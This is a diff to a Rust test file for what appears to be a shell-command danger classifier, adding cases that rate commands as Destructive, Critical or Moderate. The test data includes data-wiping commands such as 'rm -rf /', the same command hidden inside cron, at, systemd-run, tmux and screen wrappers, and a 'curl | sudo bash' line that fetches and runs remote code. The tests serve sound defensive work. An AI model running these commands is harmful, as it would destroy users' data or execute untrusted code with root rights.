@@ -38,7 +38,9 @@ fn deletion_rules() {
     assert_level(&[
         ("rm notes.txt", Destructive),
         ("rm -rf ./build", Destructive),
-        ("rm -rf /home/alice", Destructive),
+        ("rm -rf /home/alice", Critical),
+        ("rm -rf /home/$USER", Critical),
+        ("rm -rf /home/alice/old", Destructive),
         ("rm -rf /", Critical),
         ("rm -rf /*", Critical),
         ("rm -r -f /etc", Critical),
@@ -401,4 +403,19 @@ fn deep_nesting_is_bounded() {
     let v = check(&deep);
     assert!(t.elapsed().as_secs() < 5, "took {:?}", t.elapsed());
     assert!(v.level >= Destructive);
+}
+
+#[test]
+fn schedulers_and_session_wrappers() {
+    assert_level(&[
+        ("echo '* * * * * rm -rf ~' | crontab -", Critical),
+        ("echo '0 3 * * * /usr/bin/backup.sh' | crontab -", Moderate),
+        ("at now <<< 'rm -rf /'", Critical),
+        ("systemd-run --unit x rm -rf /", Critical),
+        ("script -c 'rm -rf /' /dev/null", Critical),
+        ("tmux new -d 'rm -rf /'", Critical),
+        ("screen -dm rm -rf /", Critical),
+        ("curl -s http://x | sudo -E bash -", Destructive),
+        ("alias rm='rm -i'", Moderate),
+    ]);
 }
